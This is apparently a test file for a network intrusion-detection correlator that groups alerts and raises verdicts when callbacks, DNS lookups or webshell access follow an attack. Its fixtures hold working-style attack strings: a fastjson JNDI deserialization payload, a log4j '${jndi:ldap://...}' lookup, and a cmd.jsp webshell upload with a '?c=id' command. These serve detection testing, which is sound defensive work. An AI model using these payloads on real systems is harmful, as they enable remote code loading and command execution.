import t from 'tap';
import type { Alert } from '../../contracts/alert.js';
import type { DetectionClass, Severity, Verdict } from '../../contracts/classes.js';
import { Correlator } from '../correlator.js';
import { ConnectionKind, ConnectionLog } from '../flow/connection-log.js';
import type { BehaviourRule } from '../detect/behaviour.js';
import { eveTimestamp, toAlert } from './finding.js';

const T0 = 1_571_364_000_000_000;

function alert(rule: string, sid: number, at: number, more: { verdict?: Verdict; cls?: DetectionClass; severity?: Severity; tx?: number; body?: string; url?: string } = {}): Alert {
  return toAlert({
    rule: { id: rule, sid, gid: 1, rev: 1, message: rule, title: { zh: rule, en: rule }, class: more.cls ?? 'code_injection', techniques: [], references: [] },
    header: { timestamp: eveTimestamp(at), event_type: 'alert', flow_id: 7, tx_id: more.tx ?? sid, src_ip: '203.0.113.66', dest_ip: '10.42.1.10', proto: 'TCP' },
    detail: { http: { url: more.url ?? '/', http_request_body_printable: more.body ?? '' } },
    attacker: { ip: '203.0.113.66' }, victim: { ip: '10.42.1.10', port: 80 }, verdict: more.verdict ?? 'attempted', severity: more.severity ?? 'medium',
    because: { zh: rule, en: rule }, firstUs: at, lastUs: at, occurrence: String(sid),
  });
}

const many: BehaviourRule = {
  behaviour: { name: 'many-attempts', parameters: { rules: 5, seconds: 3600 } },
  info: {
    id: 'many-attempts', sid: 9, gid: 1, revision: 1, message: 'many', title: { zh: 'm', en: 'm' }, severity: 'medium', class: 'web_scan', techniques: [], references: [],
    action: 'allowed', silent: false, suricata: false, place: { file: '', line: 1, column: 1 },
  },
};

function run(body: (c: Correlator, connect: (kind: ConnectionKind, to: string, port: number, at: number) => void) => void, more: Partial<ConstructorParameters<typeof Correlator>[0]> = {}): Alert[] {
  const out: Alert[] = [];
  const c = new Correlator({ behaviours: [many], mode: 'batch', emit: (a) => out.push(a), ...more });
  body(c, (kind, to, port, at) => {
    const log = new ConnectionLog((records, count) => c.connections(records, count));
    log.add(kind, Uint8Array.from([10, 42, 1, 10, ...to.split('.').map(Number)]), 4, 0, 4, 40000, port, 6, 2, 0, 0, at);
    log.flush();
  });
  c.flush();
  return out;
}

t.test('five kinds are told, the rest together; what succeeds is told by itself', (t) => {
  const out = run((c) => {
    for (let i = 1; i <= 40; i++) c.alert(alert(`r${i}`, 100 + i, T0 + i), false);
    c.alert(alert('r41', 141, T0 + 50, { verdict: 'succeeded' }), false);
  });
  t.equal(out.length, 7);
  t.match(out.find((a) => a.shouwang.rule === 'many-attempts')?.shouwang, { count: 35, measured: { kinds: 40, folded: 35 } });
  t.equal(out.find((a) => a.shouwang.rule === 'r41')?.shouwang.verdict, 'succeeded');
  t.end();
});

t.test('a generic reply rule becomes the evidence of the specific alert, whichever comes first', (t) => {
  for (const order of [['a', 'command-output-reply'], ['command-output-reply', 'a']]) {
    const out = run((c) => {
      for (const rule of order) c.alert(alert(rule, rule === 'a' ? 1 : 2, T0, { tx: 3, ...(rule !== 'a' && { verdict: 'succeeded' as const, severity: 'critical' as const }) }), false);
    });
    t.equal(out.length, 1);
    t.match(out[0]?.shouwang, { rule: 'a', verdict: 'succeeded', severity: 'critical', count: 1 });
  }
  t.equal(run((c) => c.alert(alert('command-output-reply', 2, T0, { tx: 3 }), false)).length, 1, 'alone it stands for itself');
  t.end();
});

t.test('what follows raises the same alert: a callback to the host in the payload, before or behind the alert', (t) => {
  const body = '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.5:1389/a"}';
  const behind = run((c, connect) => {
    c.alert(alert('fastjson', 1, T0, { cls: 'deserialization', body }), false);
    connect(ConnectionKind.Opened, '198.51.100.5', 1389, T0 + 1e6);
    connect(ConnectionKind.Answered, '198.51.100.5', 1389, T0 + 1.1e6);
  });
  t.equal(behind.length, 1);
  t.match(behind[0]?.shouwang, { verdict: 'compromised', severity: 'critical', count: 1, because: { en: /198\.51\.100\.5:1389, which the payload names/ } });
  const before = run((c, connect) => {
    connect(ConnectionKind.Opened, '198.51.100.5', 1389, T0 - 1e6);
    c.alert(alert('fastjson', 1, T0, { cls: 'deserialization', body }), false);
  });
  t.match(before[0]?.shouwang, { verdict: 'succeeded' });
  const elsewhere = run((c, connect) => {
    c.alert(alert('fastjson', 1, T0, { cls: 'deserialization', body }), false);
    connect(ConnectionKind.Answered, '198.51.100.6', 443, T0 + 1e6);
  });
  t.match(elsewhere[0]?.shouwang, { verdict: 'attempted' });
  t.end();
});

t.test('the uploaded file answers; the name in the payload is looked up', (t) => {
  const upload = run((c) => {
    c.alert(alert('upload', 1, T0, { cls: 'webshell_upload', body: 'Content-Disposition: form-data; name="f"; filename="cmd.jsp"', url: '/upload.do' }), false);
    c.event({ timestamp: eveTimestamp(T0 + 5e6), event_type: 'http', flow_id: 8, tx_id: 0, src_ip: '203.0.113.66', dest_ip: '10.42.1.10', http: { url: '/files/cmd.jsp?c=id', status: 200, length: 40 } });
  });
  t.match(upload[0]?.shouwang, { verdict: 'compromised' });
  const looked = run((c) => {
    c.alert(alert('log4j', 1, T0, { cls: 'jndi', url: '/?x=${jndi:ldap://a1b2.oob.example/x}' }), false);
    c.event({ timestamp: eveTimestamp(T0 + 1e6), event_type: 'dns', src_ip: '10.42.1.10', dest_ip: '10.42.0.2', dns: { type: 'query', rrname: 'a1b2.oob.example', rrtype: 'A' } });
  });
  t.match(looked[0]?.shouwang, { verdict: 'succeeded', severity: 'high' });
  t.end();
});

t.test('an allowance of the registry makes an alert info, or leaves it out', (t) => {
  const body = (c: Correlator) => c.alert(alert('r', 1, T0), false);
  t.match(run(body, { allowed: () => true })[0]?.shouwang, { severity: 'info' });
  t.equal(run(body, { allowed: () => true, allowedAs: 'drop' }).length, 0);
  t.match(run(body, { allowed: (a) => a === '192.0.2.1' })[0]?.shouwang, { severity: 'medium' });
  t.end();
});

t.test('an injection tool is one alert; what it proves is another, and lesser proofs are occurrences of that', (t) => {
  const sql = (rule: string, sid: number, at: number, more: object = {}) => alert(rule, sid, at, { cls: 'sql_injection', severity: 'low', ...more });
  const out = run((c) => {
    c.alert(sql('sqli-union', 1, T0), false);
    c.alert(sql('sqlmap', 2, T0 + 1), false);
    for (let i = 0; i < 30; i++) c.alert(sql(['sqli-union', 'sqli-boolean', 'sqli-time'][i % 3]!, 10 + (i % 3), T0 + 2 + i, { tx: 100 + i }), false);
    c.alert(sql('sqli-error', 5, T0 + 90, { verdict: 'succeeded', severity: 'critical', tx: 201 }), false);
    c.alert(sql('sqli-quote-error', 6, T0 + 91, { verdict: 'succeeded', severity: 'medium', tx: 202 }), false);
  });
  t.same(out.map((a) => [a.shouwang.rule, a.shouwang.verdict]).sort(), [['sqli-error', 'succeeded'], ['sqlmap', 'attempted']]);
  t.end();
});

t.test('low attempts at files are part of a scan that shows later; alone they are told', (t) => {
  const file = (at: number) => alert('version-control', 1, at, { cls: 'sensitive_file', severity: 'low' });
  t.same(run((c) => {
    c.alert(file(T0), false);
    c.alert(alert('directory-tool', 2, T0 + 10, { cls: 'web_scan', severity: 'low' }), false);
  }).map((a) => a.shouwang.rule), ['directory-tool']);
  t.same(run((c) => c.alert(file(T0), false)).map((a) => a.shouwang.rule), ['version-control']);
  t.end();
});

t.test('a scan of a network is the first hosts one by one and the rest together', (t) => {
  const scan: BehaviourRule = { behaviour: { name: 'port-scan', parameters: { targets: 15, seconds: 60 } }, info: { ...many.info, id: 'port-scan', sid: 10, class: 'port_scan' } };
  const out = run((c) => {
    const log = new ConnectionLog((records, count) => c.connections(records, count));
    for (let host = 1; host <= 60; host++) for (let port = 1; port <= 20; port++) {
      log.add(ConnectionKind.Opened, Uint8Array.from([10, 9, 9, 5, 10, 42, 1, host]), 4, 0, 4, 40000, port, 6, 2, 0, 0, T0 + host * 1000 + port);
    }
    log.flush();
  }, { behaviours: [many, scan] });
  t.equal(out.length, 4);
  t.match(out.find((a) => a.shouwang.count === 57)?.shouwang, { attacker: { ip: '10.9.9.5' }, measured: { more_hosts: 57 } });
  t.end();
});
